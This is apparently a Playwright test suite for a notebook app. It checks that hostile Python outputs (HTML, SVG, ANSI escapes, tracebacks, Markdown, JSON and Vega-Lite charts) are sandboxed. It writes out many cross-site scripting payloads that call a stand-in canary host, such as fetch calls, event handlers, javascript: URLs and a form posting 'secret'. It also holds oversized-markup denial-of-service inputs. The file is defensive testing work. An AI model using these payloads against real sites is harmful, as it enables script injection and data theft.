/**
 * Outputs that carry script or remote loads, as hostile Python would display them: HTML (script,
 * event handlers, nested frames, navigation, every CSS and markup way to load a URL), SVG, ANSI
 * escape sequences, tracebacks, Markdown and JSON bundles, a Vega-Lite chart full of URLs, and a
 * bundle of a MIME type that would run script. Controls: HTML only in `<iframe sandbox="">` with
 * its own CSP (and the page's, which a srcdoc frame inherits); SVG only as <img>; text as text
 * nodes; a chart loader that refuses every URL; MIME types checked at the kernel boundary.
 */
import type { Locator } from "@playwright/test";
import { expect, FROZEN_MS, test, type Adversary } from "./support/adversary.ts";
import { heartbeat } from "./support/heartbeat.ts";

/** Displays `bundle` (MIME type → text) from Python; `{C}` in the text becomes the canary's URL. */
async function display(adversary: Adversary, bundle: Record<string, string>): Promise<Locator> {
  const data = JSON.stringify(bundle).replaceAll("{C}", adversary.canary.url);
  return adversary.app.run(`import json\ndisplay(json.loads(${JSON.stringify(data)}), raw=True)`);
}

/** Script a payload would run: marks every frame it can reach, then calls the canary. */
const RUN = "window.__pwned=1;parent.__pwned=1;top.__pwned=1;fetch('{C}/script')";

/** What the frame shows: the markup's own heading, or (for markup that embeds other pages) a refusal. */
const SHOWN = /^shown$/;
const REFUSED = /^Not shown: this HTML embeds another page/;

const html: { name: string; markup: string; shows?: RegExp }[] = [
  { name: "a script", markup: `<script>${RUN}</script><script src="{C}/script.js"></script>` },
  {
    name: "event handlers",
    markup: [
      `<img src=x onerror="${RUN}">`,
      `<svg onload="${RUN}"></svg>`,
      `<details open ontoggle="${RUN}"><summary>s</summary></details>`,
      `<input autofocus onfocus="${RUN}">`,
      `<body onload="${RUN}">`,
    ].join(""),
  },
  {
    name: "nested frames and plug-ins",
    markup: [
      `<iframe src="javascript:${RUN}"></iframe>`,
      `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
      `<iframe src="{C}/iframe"></iframe>`,
      `<object data="{C}/object"></object>`,
      `<embed src="{C}/embed">`,
    ].join(""),
    shows: REFUSED, // Chromium opened a connection to the iframe's host before its CSP refused it
  },
  {
    name: "navigation without script",
    markup: [
      `<meta http-equiv="refresh" content="0;url={C}/refresh">`,
      `<base href="{C}/base/"><a id="go" href="next" target="_top">next</a>`,
      `<form action="{C}/form" method="post"><input name="q" value="secret" autofocus></form>`,
    ].join(""),
  },
  {
    name: "CSS loads",
    markup: [
      `<style>@import url("{C}/import.css"); @font-face { font-family: x; src: url("{C}/font.woff") }`,
      ` p { font-family: x; background: url("{C}/background.png") } li { list-style: url("{C}/list.png") }`,
      ` div { cursor: url("{C}/cursor.png"), auto; border-image: url("{C}/border.png") 30 }</style>`,
      `<link rel="stylesheet" href="{C}/link.css">`,
      `<p style="background-image: url('{C}/inline-style.png')">text</p><ul><li>item</li></ul><div>d</div>`,
    ].join(""),
  },
  {
    name: "markup loads",
    markup: [
      `<img src="{C}/img.png"><img srcset="{C}/srcset.png 2x">`,
      `<picture><source srcset="{C}/source.png"><img alt="p"></picture>`,
      `<video poster="{C}/poster.png" src="{C}/video.mp4" autoplay></video><audio src="{C}/audio.mp3" autoplay></audio>`,
      `<input type="image" src="{C}/input.png"><svg><image href="{C}/svg-image.png"/></svg>`,
      `<link rel="preconnect" href="{C}"><link rel="dns-prefetch" href="{C}">`,
      `<link rel="prefetch" href="{C}/prefetch"><link rel="preload" as="image" href="{C}/preload.png">`,
      `<link rel="prerender" href="{C}/prerender"><a href="{C}/a" ping="{C}/ping">a</a>`,
      `<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["{C}/speculation"]}]}</script>`,
    ].join(""),
  },
  {
    // The frame attaches a declarative shadow root; DOMParser leaves it a <template>.
    name: "a frame in a declarative shadow root",
    markup: `<div><template shadowrootmode="open"><iframe src="{C}/shadow-iframe"></iframe></template></div>`,
    shows: REFUSED,
  },
  {
    name: "hints in a declarative shadow root",
    markup: `<div><template shadowrootmode="open"><p>in shadow</p><link rel="preconnect" href="{C}"></template></div>`,
  },
];

for (const { name, markup, shows = SHOWN } of html) {
  test(`outputs: HTML with ${name} runs and loads nothing`, async ({ adversary }) => {
    await adversary.setUp();
    const cell = await display(adversary, { "text/html": `<h1>shown</h1>${markup}`, "text/plain": "html" });
    const frame = cell.frameLocator('iframe[title="HTML output"]');
    await expect(frame.locator("h1, p").first()).toHaveText(shows);
    await adversary.expectSafe();
  });
}

test("outputs: a link in HTML shows its address and, pressed, contacts nothing", async ({ adversary }) => {
  await adversary.setUp();
  const markup = `<h1>shown</h1><p><a href="{C}/a?rows=Seattle">the docs</a></p><svg><a href="{C}/svg-a"><text y="20">svg</text></a></svg>`;
  const cell = await display(adversary, { "text/html": markup, "text/plain": "html" });
  const frame = cell.frameLocator('iframe[title="HTML output"]');
  const link = frame.getByText("the docs");
  await expect(link).toHaveAttribute("title", `${adversary.canary.url}/a?rows=Seattle`);
  // Pressed (Chromium preconnects on pointer down), then released: a click.
  await link.click({ delay: 300 });
  await frame.getByText("svg").click();
  await expect(frame.locator("h1")).toHaveText("shown"); // the frame was not navigated away
  await adversary.expectSafe();
});

test("outputs: SVG with script and remote references is only an image", async ({ adversary }) => {
  await adversary.setUp();
  const svg = [
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" onload="${RUN}">`,
    `<script>${RUN}</script><style>@import url("{C}/svg-import.css");</style>`,
    `<image href="{C}/svg-image.png" width="10" height="10"/><use xlink:href="{C}/use.svg#x"/>`,
    `<foreignObject width="40" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" src="{C}/fo"></iframe></foreignObject>`,
    `<rect width="40" height="40" fill="url({C}/paint.svg#p)"/></svg>`,
  ].join("");
  const cell = await display(adversary, { "image/svg+xml": svg, "text/plain": "svg" });
  await expect(cell.getByRole("img", { name: "Figure" })).toBeVisible();
  await adversary.expectSafe();
});

test("outputs: ANSI escape sequences make coloured text, never links or markup", async ({ adversary }) => {
  await adversary.setUp();
  const code = String.raw`
print("\x1b]8;;javascript:window.__pwned=1\x1b\\osc8-js\x1b]8;;\x1b\\ and \x1b]8;;" + CANARY + "/osc8\x1b\\osc8-http\x1b]8;;\x1b\\")
print("\x1b]0;title\x07\x1b]52;c;cHduZWQ=\x07\x1b[31m<img src=x onerror=window.__pwned=1>\x1b[0m \x1b[38;2;1;2;3mrgb\x1b[0m")`;
  const cell = await adversary.app.run(`CANARY = ${JSON.stringify(adversary.canary.url)}\n${code}`);
  const log = cell.getByRole("log", { name: "Output" });
  await expect(log).toContainText("<img src=x onerror=window.__pwned=1>");
  await expect(log.locator("a, img, iframe, script")).toHaveCount(0);
  await adversary.expectSafe();
});

test("outputs: a traceback carrying markup stays text", async ({ adversary }) => {
  await adversary.setUp();
  const cell = await adversary.app.run(
    String.raw`raise ValueError("<img src=x onerror=window.__pwned=1><script>window.__pwned=1</script>\x1b]8;;javascript:alert(1)\x1b\\x")`,
  );
  const traceback = cell.getByRole("alert");
  await expect(traceback).toContainText("ValueError: <img src=x onerror=window.__pwned=1><script>");
  await expect(traceback.locator("a, img, script")).toHaveCount(0);
  await adversary.expectSafe();
});

test("outputs: Markdown and JSON bundles are shown as text", async ({ adversary }) => {
  await adversary.setUp();
  const cell = await display(adversary, {
    "text/markdown": `![x]({C}/md.png) [j](javascript:window.__pwned=1) <img src="{C}/md-raw.png">`,
    "application/json": `{"html": "<img src='{C}/json.png' onerror='window.__pwned=1'>"}`,
    "text/plain": "bundle",
  });
  await expect(cell.getByRole("log").locator("img, a, script")).toHaveCount(0);
  await adversary.expectSafe();
});

test("outputs: a chart spec full of URLs loads and opens nothing", async ({ adversary }) => {
  await adversary.setUp();
  const spec = {
    $schema: "https://vega.github.io/schema/vega-lite/v5.json",
    data: { url: "{C}/chart-data.csv" },
    layer: [
      { mark: { type: "image", url: "{C}/mark.png", width: 10, height: 10 }, encoding: { x: { field: "a" } } },
      {
        mark: { type: "point", cursor: "url({C}/cursor.png), auto", fill: "url({C}/fill.svg#f)" },
        encoding: { x: { field: "a" }, href: { value: "javascript:window.__pwned=1" } },
      },
    ],
  };
  const cell = await display(adversary, {
    "application/vnd.vegalite.v5+json": JSON.stringify(spec),
    "text/plain": "chart",
  });
  await expect(cell.getByRole("figure", { name: "Chart" })).toContainText("Chart data from URLs is not loaded");
  await adversary.expectSafe();
});

test("outputs: a bundle of only a script MIME type replaces the kernel", async ({ adversary }) => {
  await adversary.setUp();
  // Past display(), which drops unknown types: straight to the function that sends bundles.
  const code = `import json, _kernel.display as d\nd.emit(json.dumps({"application/javascript": "window.parent.__pwned = 1"}))`;
  const cell = await adversary.app.run(code);
  await expect(cell.getByRole("log")).toContainText("The kernel broke the page's rules");
  await adversary.expectSafe();
});

test("outputs: HTML nested thousands deep is not parsed, and the page keeps responding", async ({ adversary }) => {
  await adversary.setUp();
  const { app, page } = adversary;
  const maxGap = await heartbeat(page);
  // Stray end tags close nothing: 60,000 spans nest all the same.
  const cell = await app.run("class Deep:\n    def _repr_html_(self): return '<span></i>' * 60_000\nDeep()");
  const frame = cell.getByTitle("HTML output").contentFrame();
  await expect(frame.getByText("Not shown: its markup is nested")).toBeVisible();
  expect(await maxGap()).toBeLessThan(FROZEN_MS);
  await adversary.expectSafe();
});

test("outputs: an SVG of nested <use> (a few KB, millions of elements) is not drawn", async ({ adversary }) => {
  await adversary.setUp();
  const { app, page } = adversary;
  const maxGap = await heartbeat(page);
  const code = [
    'levels = [\'<rect id="l0" width="1" height="1"/>\']',
    "levels += [f'<g id=\"l{i}\">' + f'<use href=\"#l{i - 1}\"/>' * 10 + '</g>' for i in range(1, 8)]",
    "svg = '<svg xmlns=\"http://www.w3.org/2000/svg\"><defs>' + ''.join(levels) + '</defs><use href=\"#l7\"/></svg>'",
    "display({'image/svg+xml': svg}, raw=True)",
  ].join("\n");
  const cell = await app.run(code);
  await expect(cell.getByRole("log", { name: "Output" })).toContainText("Not shown: this SVG makes too many elements");
  expect(await maxGap()).toBeLessThan(FROZEN_MS);
  await adversary.expectSafe();
});

test("outputs: a chart spec generating a million points is refused, not drawn", async ({ adversary }) => {
  await adversary.setUp();
  const { app, page } = adversary;
  const maxGap = await heartbeat(page);
  const spec = {
    data: { sequence: { start: 0, stop: 1_000_000, as: "x" } },
    mark: "point",
    encoding: { x: { field: "x", type: "quantitative" } },
  };
  const cell = await app.run(`display({"application/vnd.vegalite.v5+json": ${JSON.stringify(spec)}}, raw=True)`);
  await expect(cell.getByRole("log", { name: "Output" })).toContainText("1,000,000 data points");
  expect(await maxGap()).toBeLessThan(FROZEN_MS);
  await adversary.expectSafe();
});
